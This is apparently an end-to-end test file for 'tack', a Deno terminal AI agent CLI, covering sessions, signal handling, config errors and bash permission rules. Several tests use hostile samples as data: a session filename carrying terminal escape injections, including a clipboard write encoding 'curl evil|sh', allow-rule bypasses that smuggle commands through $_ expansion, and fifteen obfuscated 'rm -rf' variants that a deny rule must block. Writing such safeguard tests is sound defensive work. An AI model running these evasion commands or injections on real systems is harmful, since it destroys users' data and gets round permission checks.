// Drives the real `tack` CLI as a subprocess, under the "cli" permission set of deno.json,
// against the fake OpenAI server on loopback.

import { deepEqual, equal, match } from "node:assert/strict";
import { join } from "node:path";
import { startFakeOpenAI } from "./support/fake_openai_server.ts";
import { NO_MODEL_MESSAGE } from "../cli/model_settings.ts";
import { trustConfig } from "./support/trust_config.ts";

const REPO = new URL("..", import.meta.url).pathname;
const MAIN = join(REPO, "cli", "main.ts");
const DENO_JSON = join(REPO, "deno.json");

/** A workspace inside the repo: the "cli" permission set grants the repo's folder. */
async function withWorkspace(fn: (dir: string) => Promise<void>): Promise<void> {
  const dir = await Deno.makeTempDir({ dir: join(REPO, "tests", "cli"), prefix: ".tmp_e2e_" });
  try {
    await fn(dir);
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
}

function childEnv(extra: Record<string, string>): Record<string, string> {
  const env: Record<string, string> = { NO_COLOR: "1", ...extra };
  for (const name of ["HOME", "PATH", "DENO_DIR"]) {
    const value = Deno.env.get(name);
    if (value !== undefined) env[name] = value;
  }
  return env;
}

function command(
  cwd: string,
  args: string[],
  env: Record<string, string>,
  stdin: "null" | "piped",
) {
  return new Deno.Command(Deno.execPath(), {
    args: ["run", "-P=cli", "--config", DENO_JSON, "--no-prompt", MAIN, ...args],
    cwd,
    env: childEnv(env),
    clearEnv: true,
    stdin,
    stdout: "piped",
    stderr: "piped",
  });
}

/** The CLI's stderr without Deno's notice that config permissions are experimental. */
function cleanStderr(bytes: Uint8Array): string {
  return new TextDecoder().decode(bytes).split("\n")
    .filter((line) => !line.includes("Permissions in the config file is an experimental feature"))
    .join("\n");
}

async function cli(cwd: string, args: string[], env: Record<string, string> = {}) {
  const output = await command(cwd, args, env, "null").output();
  return {
    code: output.code,
    stdout: new TextDecoder().decode(output.stdout),
    stderr: cleanStderr(output.stderr),
  };
}

async function sessionFiles(cwd: string): Promise<string[]> {
  const dir = join(cwd, ".tack", "sessions");
  const files: string[] = [];
  for await (const entry of Deno.readDir(dir)) files.push(join(dir, entry.name));
  return files;
}

/** The session's messages (its timing lines, for `tack trace`, left out). */
async function sessionLines(path: string) {
  return (await Deno.readTextFile(path)).trimEnd().split("\n").map((line) => JSON.parse(line))
    .filter((line) => !("event" in line));
}

/** Reads a child's stdout until `until` matches what came so far. */
async function readUntil(
  reader: ReadableStreamDefaultReader<Uint8Array>,
  until: (text: string) => boolean,
): Promise<string> {
  const decoder = new TextDecoder();
  let text = "";
  while (!until(text)) {
    const { value, done } = await reader.read();
    if (done) throw new Error(`stdout ended before the expected output; got:\n${text}`);
    text += decoder.decode(value, { stream: true });
  }
  return text;
}

/** The CLI on a one-shot prompt (`--json --yes`), once its first tool call has started. */
async function whileToolRuns(cwd: string, baseURL: string) {
  const child = command(cwd, ["--json", "--yes", "--base-url", baseURL, "wait"], {}, "null")
    .spawn();
  const reader = child.stdout.getReader();
  await readUntil(reader, (text) => text.includes('"tool_execution_start"'));
  return { child, reader };
}

Deno.test("one-shot: streams the answer, shows the tool, saves the session", () =>
  withWorkspace(async (cwd) => {
    await Deno.writeTextFile(join(cwd, "a.txt"), "alpha");
    await using server = await startFakeOpenAI({
      turns: [
        { toolCalls: [{ name: "ls", arguments: { path: "." } }] },
        { text: "There is one file: a.txt." },
      ],
    });
    const run = await cli(cwd, ["--base-url", server.baseURL, "what files are here?"]);
    // The session folder exists from the prompt on, so ls sees it.
    equal(run.stderr, "→ ls path=.\n✓ ls: .tack/ (2 lines)\n");
    equal(run.stdout, "There is one file: a.txt.\n");
    equal(run.code, 0);
    equal(server.requests.length, 2);
    const toolMessage = server.requests[1].messages.find((m: { role: string }) =>
      m.role === "tool"
    );
    equal(toolMessage.content, ".tack/\na.txt");
    const [file] = await sessionFiles(cwd);
    deepEqual((await sessionLines(file)).map((m) => m.role), [
      "user",
      "assistant",
      "toolResult",
      "assistant",
    ]);
  }));

Deno.test("--json: one AgentEvent a line on stdout and nothing else", () =>
  withWorkspace(async (cwd) => {
    await using server = await startFakeOpenAI({ turns: [{ text: "Hello there, friend." }] });
    const run = await cli(cwd, ["--json", "--base-url", server.baseURL, "hi"]);
    equal(run.code, 0);
    equal(run.stderr, "");
    const events = run.stdout.trimEnd().split("\n").map((line) => JSON.parse(line));
    equal(events[0].type, "agent_start");
    equal(events.at(-1).type, "agent_end");
    const updates = events.filter((e) => e.type === "message_update");
    equal(updates.length > 2, true);
    for (const update of updates) deepEqual(Object.keys(update), ["type", "assistantMessageEvent"]);
    const text = updates
      .filter((u) => u.assistantMessageEvent.type === "text_delta")
      .map((u) => u.assistantMessageEvent.delta)
      .join("");
    equal(text, "Hello there, friend.");
    const end = events.filter((e) => e.type === "message_end").at(-1);
    equal(end.message.content[0].text, "Hello there, friend.");
  }));

Deno.test("--resume continues the last session, skipping a torn last line with a warning", () =>
  withWorkspace(async (cwd) => {
    await using server = await startFakeOpenAI({
      turns: [{ text: "Noted: 42." }, { text: "It was 42." }],
    });
    const first = await cli(cwd, ["--base-url", server.baseURL, "remember 42"]);
    equal(first.code, 0);
    const [file] = await sessionFiles(cwd);
    await Deno.writeTextFile(file, '{"role":"user","conte', { append: true });
    const second = await cli(cwd, ["--resume", "--base-url", server.baseURL, "what was it?"]);
    equal(second.code, 0);
    equal(second.stdout, "It was 42.\n");
    match(
      second.stderr,
      /^warning: Skipped the last line of .*\.jsonl \(line \d+\): it is not valid JSON .*probably cut off by a crash\n$/,
    );
    const sent = server.requests[1].messages.map((m: { role: string; content: unknown }) => [
      m.role,
      m.content,
    ]);
    deepEqual(sent.slice(1), [
      ["user", "remember 42"],
      ["assistant", "Noted: 42."],
      ["user", "what was it?"],
    ]);
    equal((await sessionFiles(cwd)).length, 1);
    equal((await sessionLines(file)).length, 4);
  }));

Deno.test("--resume with no session yet and --session with a named file", () =>
  withWorkspace(async (cwd) => {
    await using server = await startFakeOpenAI({ turns: [{ text: "one" }, { text: "two" }] });
    const none = await cli(cwd, ["--resume", "--base-url", server.baseURL, "x"]);
    equal(none.code, 2);
    equal(
      none.stderr,
      "Cannot resume: there are no sessions in .tack/sessions yet (start one first)\n",
    );
    equal(server.requests.length, 0);
    await cli(cwd, ["--session", "mine.jsonl", "--base-url", server.baseURL, "first"]);
    await cli(cwd, ["--session", "mine.jsonl", "--base-url", server.baseURL, "second"]);
    deepEqual(
      (await sessionLines(join(cwd, "mine.jsonl"))).map((m) => m.content?.[0]?.text ?? m.content),
      ["first", "one", "second", "two"],
    );
  }));

Deno.test("--resume: a session file name a repository chose reaches the terminal without its escapes", () =>
  withWorkspace(async (cwd) => {
    // A clipboard write (OSC 52), a window title and a screen clear in a cloned repo's
    // session name were written raw by "Resuming …" and by "Cannot load session …".
    const name = "x\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b]0;PWNED\x07\x1b[2JFAKE.jsonl";
    const sessions = join(cwd, ".tack", "sessions");
    await Deno.mkdir(sessions, { recursive: true });
    await Deno.writeTextFile(join(sessions, name), '{"role":"user","content":"earlier"}\n');
    await using server = await startFakeOpenAI({ turns: [{ text: "ok" }] });
    const child = command(cwd, ["--resume", "--base-url", server.baseURL], {}, "piped").spawn();
    const writer = child.stdin.getWriter();
    await writer.write(new TextEncoder().encode("/exit\n"));
    await writer.close();
    const output = await child.output();
    const stderr = cleanStderr(output.stderr);
    equal(output.code, 0, stderr);
    equal(stderr.includes("\x1b"), false, JSON.stringify(stderr));
    equal(stderr.includes("Resuming .tack/sessions/xFAKE.jsonl (1 messages)\n"), true, stderr);

    await Deno.writeTextFile(join(sessions, name), "not json\n{}\n");
    const broken = await cli(cwd, ["--resume", "--base-url", server.baseURL, "go on"]);
    equal(broken.code, 2);
    equal(
      broken.stderr,
      `Cannot load session ${join(sessions, "xFAKE.jsonl")}: line 1 is not valid JSON ` +
        `(Unexpected token 'o', "not json" is not valid JSON)\n`,
    );
  }));

Deno.test("a tool that needs confirmation is blocked without a terminal, and says why", () =>
  withWorkspace(async (cwd) => {
    await using server = await startFakeOpenAI({
      turns: [
        { toolCalls: [{ name: "bash", arguments: { command: "touch made.txt" } }] },
        { text: "I could not run it." },
      ],
    });
    const run = await cli(cwd, ["--base-url", server.baseURL, "make a file"]);
    equal(run.code, 0);
    const reason = "Tool bash needs the user's confirmation (bash has effect exec), but no one " +
      'can be asked (non-interactive), and whenNonInteractive is "deny"';
    equal(
      run.stderr,
      '→ bash command="touch made.txt"\n' +
        `✗ bash: ${reason}\n` +
        "  (no terminal to ask on: run in a terminal to be asked, or pass --yes)\n",
    );
    equal(await Deno.stat(join(cwd, "made.txt")).then(() => true, () => false), false);
    const toolMessage = server.requests[1].messages.find((m: { role: string }) =>
      m.role === "tool"
    );
    equal(toolMessage.content, reason);
  }));

Deno.test("--yes runs it, under the CLI's permission set", () =>
  withWorkspace(async (cwd) => {
    await using server = await startFakeOpenAI({
      turns: [
        { toolCalls: [{ name: "bash", arguments: { command: "echo made > made.txt" } }] },
        { text: "Done." },
      ],
    });
    const run = await cli(cwd, ["--yes", "--base-url", server.baseURL, "make a file"]);
    equal(run.code, 0);
    equal(await Deno.readTextFile(join(cwd, "made.txt")), "made\n");
  }));

Deno.test("Ctrl-C aborts the run; the session keeps the aborted message; exit 130", () =>
  withWorkspace(async (cwd) => {
    await using server = await startFakeOpenAI({
      turns: [{ text: "a long answer ".repeat(200), delayMs: 20 }],
    });
    const child = command(cwd, ["--json", "--base-url", server.baseURL, "talk"], {}, "null")
      .spawn();
    const reader = child.stdout.getReader();
    await readUntil(reader, (text) => text.includes('"text_delta"'));
    child.kill("SIGINT");
    const rest = await readUntil(reader, (text) => text.includes('"agent_end"'));
    reader.releaseLock();
    const [status, stderr] = await Promise.all([
      child.status,
      new Response(child.stderr).bytes(),
    ]);
    equal(status.code, 130);
    equal(cleanStderr(stderr), "Aborting the run. Press Ctrl-C again to exit.\n");
    match(rest, /"stopReason":"aborted"/);
    const [file] = await sessionFiles(cwd);
    const last = (await sessionLines(file)).at(-1);
    equal(last.role, "assistant");
    equal(last.stopReason, "aborted");
  }));

Deno.test("Ctrl-C while a tool runs aborts it: exit 130, the session ends aborted, the model is not asked again", () =>
  withWorkspace(async (cwd) => {
    await using server = await startFakeOpenAI({
      turns: [
        { toolCalls: [{ name: "bash", arguments: { command: "sleep 30" } }] },
        { text: "Never asked." },
      ],
    });
    const { child, reader } = await whileToolRuns(cwd, server.baseURL);
    child.kill("SIGINT");
    const rest = await readUntil(reader, (text) => text.includes('"agent_end"'));
    reader.releaseLock();
    const [status, stderr] = await Promise.all([child.status, new Response(child.stderr).text()]);
    equal(status.code, 130);
    match(stderr, /Aborting the run\. Press Ctrl-C again to exit\./);
    match(rest, /Tool bash was aborted while running/);
    equal(server.requests.length, 1);
    deepEqual(
      (await sessionLines((await sessionFiles(cwd))[0])).map((m) =>
        `${m.role}:${m.stopReason ?? ""}`
      ),
      ["user:", "assistant:toolUse", "toolResult:", "assistant:aborted"],
    );
  }));

for (const [signal, code] of [["SIGTERM", 143], ["SIGHUP", 129]] as const) {
  Deno.test(`${signal} while a tool runs stops the tool, ends the session aborted, exits ${code}`, () =>
    withWorkspace(async (cwd) => {
      // The command would leave a file 2 s on, after the CLI is gone, if it went on running.
      await using server = await startFakeOpenAI({
        turns: [
          { toolCalls: [{ name: "bash", arguments: { command: "sleep 2; touch late.txt" } }] },
          { text: "Never asked." },
        ],
      });
      const { child, reader } = await whileToolRuns(cwd, server.baseURL);
      child.kill(signal);
      await readUntil(reader, (text) => text.includes('"agent_end"'));
      reader.releaseLock();
      const status = await child.status;
      await child.stderr.cancel();
      equal(status.code, code);
      equal(server.requests.length, 1);
      deepEqual(
        (await sessionLines((await sessionFiles(cwd))[0])).map((m) =>
          `${m.role}:${m.stopReason ?? ""}`
        ),
        ["user:", "assistant:toolUse", "toolResult:", "assistant:aborted"],
      );
      await new Promise((resolve) => setTimeout(resolve, 2500));
      equal(await Deno.stat(join(cwd, "late.txt")).then(() => true, () => false), false);
    }));
}

Deno.test("interactive: Ctrl-C aborts the run, not the session; twice at the prompt exits", () =>
  withWorkspace(async (cwd) => {
    await using server = await startFakeOpenAI({
      turns: [{ text: "slow ".repeat(400), delayMs: 20 }, { text: "Quick answer." }],
    });
    const child = command(cwd, ["--base-url", server.baseURL], {}, "piped").spawn();
    const writer = child.stdin.getWriter();
    const encoder = new TextEncoder();
    const reader = child.stdout.getReader();
    await writer.write(encoder.encode("first\n"));
    await readUntil(reader, (text) => text.includes("slow"));
    child.kill("SIGINT");
    // Still alive: the next prompt runs.
    await writer.write(encoder.encode("second\n"));
    await readUntil(reader, (text) => text.includes("Quick answer."));
    child.kill("SIGINT");
    // Later than 100 ms: sooner counts as the same press (deno task delivers one twice).
    await new Promise((resolve) => setTimeout(resolve, 500));
    child.kill("SIGINT");
    reader.releaseLock();
    const [status, stderr] = await Promise.all([child.status, new Response(child.stderr).text()]);
    await writer.close().catch(() => {});
    equal(status.code, 130);
    match(stderr, /Aborting the run\. Press Ctrl-C again to exit\./);
    match(stderr, /■ aborted/);
    match(stderr, /› \nPress Ctrl-C again to exit\.\n› $/);
    equal(server.requests.length, 2);
    const [file] = await sessionFiles(cwd);
    deepEqual(
      (await sessionLines(file)).map((m) => `${m.role}:${m.stopReason ?? ""}`),
      ["user:", "assistant:aborted", "user:", "assistant:stop"],
    );
  }));

Deno.test("interactive: /exit and end of input leave with 0", () =>
  withWorkspace(async (cwd) => {
    await using server = await startFakeOpenAI({ turns: [{ text: "Hi!" }] });
    const child = command(cwd, ["--base-url", server.baseURL], {}, "piped").spawn();
    const writer = child.stdin.getWriter();
    await writer.write(new TextEncoder().encode("hello\n/help\n/exit\n"));
    await writer.close();
    const output = await child.output();
    equal(output.code, 0);
    equal(new TextDecoder().decode(output.stdout), "Hi!\n");
    match(cleanStderr(output.stderr), /\/exit, \/quit {3}leave/);
  }));

Deno.test("no key and no base URL: says how to set one, exit 2, no request", () =>
  withWorkspace(async (cwd) => {
    const run = await cli(cwd, ["hello"]);
    equal(run.code, 2);
    equal(run.stdout, "");
    equal(run.stderr, NO_MODEL_MESSAGE + "\n");
    equal(await Deno.stat(join(cwd, ".tack")).then(() => true, () => false), false);
  }));

Deno.test("a bad config names file, line and key; exit 2", () =>
  withWorkspace(async (cwd) => {
    await Deno.writeTextFile(join(cwd, "tack.jsonc"), '{\n  // my config\n  "modle": "x"\n}\n');
    const run = await cli(cwd, ["--base-url", "http://127.0.0.1:9/v1", "hello"]);
    equal(run.code, 2);
    equal(
      run.stderr,
      'Cannot load config: tack.jsonc:3:3: "modle" is not a known key (expected one of: ' +
        "$schema, model, baseURL, systemPrompt, plugins, sessionDir, maxTurns, rules, price)\n",
    );
    const missing = await cli(cwd, ["--config", "other.jsonc", "hello"]);
    equal(missing.code, 2);
    equal(missing.stderr, "Cannot load config: other.jsonc: no such file\n");
  }));

Deno.test("a model error ends the run with exit 1 and the provider's message", () =>
  withWorkspace(async (cwd) => {
    await using server = await startFakeOpenAI({
      turns: [{ status: 401, errorMessage: "Incorrect API key provided" }],
    });
    const run = await cli(cwd, ["--base-url", server.baseURL, "hello"], { OPENAI_API_KEY: "bad" });
    equal(run.code, 1);
    equal(run.stdout, "");
    match(run.stderr, /^✗ error: .*Incorrect API key provided/);
  }));

Deno.test("usage errors exit 2; --help and --version exit 0", () =>
  withWorkspace(async (cwd) => {
    const bad = await cli(cwd, ["--frobnicate"]);
    equal(bad.code, 2);
    equal(bad.stderr, "Unknown option '--frobnicate'\nRun \"tack --help\" for usage.\n");
    const help = await cli(cwd, ["--help"]);
    equal(help.code, 0);
    match(help.stdout, /^tack: a Deno-native agent in your terminal\n/);
    const version = await cli(cwd, ["--version"]);
    equal(version.code, 0);
    match(version.stdout, /^tack \d+\.\d+\.\d+\n$/);
  }));

Deno.test("from any folder, with the documented flags instead of the permission set", async () => {
  const dir = await Deno.makeTempDir();
  try {
    await Deno.writeTextFile(join(dir, "notes.txt"), "hello");
    await using server = await startFakeOpenAI({
      turns: [{ toolCalls: [{ name: "read", arguments: { path: "notes.txt" } }] }, {
        text: "It says hello.",
      }],
    });
    const output = await new Deno.Command(Deno.execPath(), {
      args: [
        "run",
        "--no-prompt",
        "--allow-read=.",
        "--allow-write=.,/tmp",
        "--allow-net",
        "--allow-run",
        "--allow-env=OPENAI_API_KEY,OPENAI_BASE_URL,TACK_MODEL,NO_COLOR,PATH,_ISEXE_TEST_PLATFORM_",
        MAIN,
        "--base-url",
        server.baseURL,
        "what do my notes say?",
      ],
      cwd: dir,
      env: childEnv({}),
      clearEnv: true,
      stdin: "null",
    }).output();
    equal(new TextDecoder().decode(output.stdout), "It says hello.\n");
    equal(output.code, 0);
    match(server.requests[1].messages.at(-1).content, /hello/);
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("a crash mid-tool loses nothing written; --resume closes the open call", () =>
  withWorkspace(async (cwd) => {
    await using server = await startFakeOpenAI({
      turns: [
        { toolCalls: [{ name: "bash", arguments: { command: "sleep 2" } }] },
        { text: "Picking up again." },
      ],
    });
    const { child, reader } = await whileToolRuns(cwd, server.baseURL);
    child.kill("SIGKILL");
    reader.releaseLock();
    await Promise.all([child.status, child.stdout.cancel(), child.stderr.cancel()]);
    const [file] = await sessionFiles(cwd);
    deepEqual((await sessionLines(file)).map((m) => m.role), ["user", "assistant"]);

    const resumed = await cli(cwd, ["--resume", "--base-url", server.baseURL, "go on"]);
    equal(resumed.code, 0);
    equal(
      resumed.stderr,
      "warning: Closed 1 tool call(s) the last session left running, as error results\n",
    );
    equal(resumed.stdout, "Picking up again.\n");
    const tool = server.requests[1].messages.find((m: { role: string }) => m.role === "tool");
    equal(tool.content, "Tool bash was interrupted: the session ended before it finished");
  }));

Deno.test("stdout closed by its reader ends the CLI quietly with 141", () =>
  withWorkspace(async (cwd) => {
    await using server = await startFakeOpenAI({
      turns: [{ text: "word ".repeat(500), delayMs: 2 }],
    });
    const child = command(cwd, ["--json", "--base-url", server.baseURL, "talk"], {}, "null")
      .spawn();
    const reader = child.stdout.getReader();
    await readUntil(reader, (text) => text.includes("agent_start"));
    await reader.cancel();
    const [status, stderr] = await Promise.all([child.status, new Response(child.stderr).text()]);
    equal(status.code, 141);
    equal(stderr.includes("listener threw"), false);
  }));

Deno.test("--api responses uses the Responses API; a multi-line tool error is shown whole", () =>
  withWorkspace(async (cwd) => {
    await Deno.writeTextFile(
      join(cwd, "thrower.ts"),
      `export default { name: "thrower", tools: [{ name: "boom", description: "Fails", ` +
        `parameters: { type: "object" }, execute: () => { throw new Error("first line\\nsecond line\\nthird line"); } }] };`,
    );
    await using server = await startFakeOpenAI({
      turns: [{ toolCalls: [{ name: "boom", arguments: {} }] }, { text: "It failed." }],
    });
    const run = await cli(cwd, [
      "--api",
      "responses",
      "--base-url",
      server.baseURL,
      "--plugin",
      "./thrower.ts",
      "go",
    ]);
    equal(run.code, 0, run.stderr);
    deepEqual(server.calls.map((c: { path: string }) => c.path), [
      "/v1/responses",
      "/v1/responses",
    ]);
    match(run.stderr, /✗ boom: .*first line\n {2}second line\n {2}third line\n/);
  }));

Deno.test("--api with another value is a usage error", async () => {
  const run = await cli(REPO, ["--api", "completions", "hi"]);
  equal(run.code, 2);
  equal(
    run.stderr,
    '--api must be "chat" or "responses", got "completions"\nRun "tack --help" for usage.\n',
  );
});

Deno.test("under the cli permission set, the mcp plugin starts a stdio server", () =>
  withWorkspace(async (cwd) => {
    const server = join(REPO, "tests", "fixtures", "mcp", "stdio_server.ts");
    await Deno.writeTextFile(
      join(cwd, "tack.jsonc"),
      JSON.stringify({
        plugins: [{
          specifier: "mcp",
          options: {
            name: "fixture",
            command: Deno.execPath(),
            args: ["run", "--quiet", "--cached-only", server],
          },
        }],
      }),
    );
    await using fake = await startFakeOpenAI({
      turns: [
        { toolCalls: [{ name: "fixture_echo", arguments: { text: "hi" } }] },
        { text: "Echoed." },
      ],
    });
    const trusted = await trustConfig(join(cwd, ".state"), join(cwd, "tack.jsonc"));
    const run = await cli(cwd, ["--yes", "--base-url", fake.baseURL, "echo hi"], trusted);
    equal(run.code, 0, run.stderr);
    equal(run.stdout, "Echoed.\n");
    equal(fake.requests[1].messages.at(-1).content, "echo: hi");
  }));

Deno.test("an allow rule does not approve code bash evaluates at run time: a quoted word read back through $_ by arithmetic or ${!…}", () =>
  withWorkspace(async (cwd) => {
    await Deno.writeTextFile(
      join(cwd, "tack.jsonc"),
      JSON.stringify({
        rules: [{
          name: "git-read",
          action: "allow",
          tool: "bash",
          args: { command: { regex: "^git (status|diff|log)\\b" } },
        }, {
          name: "no-rm-rf",
          action: "deny",
          tool: "bash",
          args: { command: { shell: "rm -rf" } },
        }],
      }),
    );
    await Deno.mkdir(join(cwd, "victim"));
    // In bash, the first makes pwned.txt and the second deletes victim/ (through $_).
    const commands = [
      "git status 'a[$(touch pwned.txt)]' ; git log -n $((_))",
      "git status 'a[$(rm -rf victim)]' ; git diff -U${!_}",
    ];
    await using server = await startFakeOpenAI({
      turns: [
        { toolCalls: commands.map((command) => ({ name: "bash", arguments: { command } })) },
        { text: "Done." },
      ],
    });
    // No terminal and no --yes: what no rule allows is not run.
    const trusted = await trustConfig(join(cwd, ".state"), join(cwd, "tack.jsonc"));
    const run = await cli(cwd, ["--base-url", server.baseURL, "look around"], trusted);
    equal(run.code, 0, run.stderr);
    const results = server.requests[1].messages.filter((m: { role: string }) => m.role === "tool")
      .map((m: { content: string }) => m.content);
    match(results[0], /^Tool bash needs the user's confirmation/);
    equal(
      results[1],
      'Blocked by rule "no-rm-rf" (deny bash command matching shell command "rm -rf")',
    );
    equal(await Deno.stat(join(cwd, "pwned.txt")).then(() => true, () => false), false);
    equal((await Deno.stat(join(cwd, "victim"))).isDirectory, true);
  }));

Deno.test("--yes with a deny rule: rm -rf behind a wrapper, ANSI-C quoted or abbreviated is blocked, and the folder stays", () =>
  withWorkspace(async (cwd) => {
    await Deno.writeTextFile(
      join(cwd, "tack.jsonc"),
      JSON.stringify({
        rules: [{
          name: "no-rm-rf",
          action: "deny",
          tool: "bash",
          args: { command: { shell: "rm -rf" } },
        }],
      }),
    );
    // Each of these deletes the folder in bash; each was run under --yes before.
    const commands = [
      "env bash -c 'rm -rf victim/a'",
      "rm $'-rf' victim/b",
      "rm --rec --forc victim/c",
      "bash -o errexit -c 'rm -rf victim/d'",
      "bash -euo pipefail -c 'rm -rf victim/e'",
      "bash <<'EOF'\nrm -rf victim/f\nEOF",
      // getopt's readings of su and runuser (found by the docs audit, 2026-12-04).
      "su --comm 'rm -rf victim/g'",
      "runuser -c'rm -rf victim/h'",
      "su root -c'rm -rf victim/i'",
      "su root -- -c 'rm -rf victim/j'",
      "rm -r --interactive=never victim/k",
      // The review's: a shell option before -c after su's `--`, and su's shell fed by stdin.
      "su root -- -ce 'rm -rf victim/l'",
      "su <<< 'rm -rf victim/m'",
      // The rules attack's: a here-string reaching a shell through a block, and xargs's
      // optional-value --replace.
      "{ bash; } <<< 'rm -rf victim/n'",
      "echo victim/o | xargs --replace rm -rf {}",
    ];
    const folders = ["a", "b", "c", "d", "e", "f", "g", "h", "i", "j", "k", "l", "m", "n", "o"];
    for (const folder of folders) {
      await Deno.mkdir(join(cwd, "victim", folder), { recursive: true });
    }
    await using server = await startFakeOpenAI({
      turns: [
        { toolCalls: commands.map((command) => ({ name: "bash", arguments: { command } })) },
        { text: "Done." },
      ],
    });
    const trusted = await trustConfig(join(cwd, ".state"), join(cwd, "tack.jsonc"));
    const run = await cli(cwd, ["--yes", "--base-url", server.baseURL, "clean up"], trusted);
    equal(run.code, 0, run.stderr);
    const results = server.requests[1].messages.filter((m: { role: string }) => m.role === "tool")
      .map((m: { content: string }) => m.content);
    deepEqual(
      results,
      commands.map(() =>
        'Blocked by rule "no-rm-rf" (deny bash command matching shell command "rm -rf")'
      ),
    );
    for (const folder of folders) {
      equal((await Deno.stat(join(cwd, "victim", folder))).isDirectory, true, folder);
    }
  }));
